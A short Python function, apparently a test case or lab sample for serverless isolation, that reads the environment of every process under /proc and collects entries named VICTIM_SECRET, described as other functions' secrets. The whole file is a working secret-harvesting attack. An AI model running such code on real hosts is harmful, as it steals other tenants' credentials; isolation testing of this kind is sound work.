import glob


def main(bait, context):
    """Reads the environments of all processes: programs of other functions get their secrets there."""
    found = []
    for file in glob.glob("/proc/[0-9]*/environ"):
        try:
            found += [entry for entry in open(file).read().split("\0") if entry.startswith("VICTIM_SECRET")]
        except OSError:
            continue
    return found
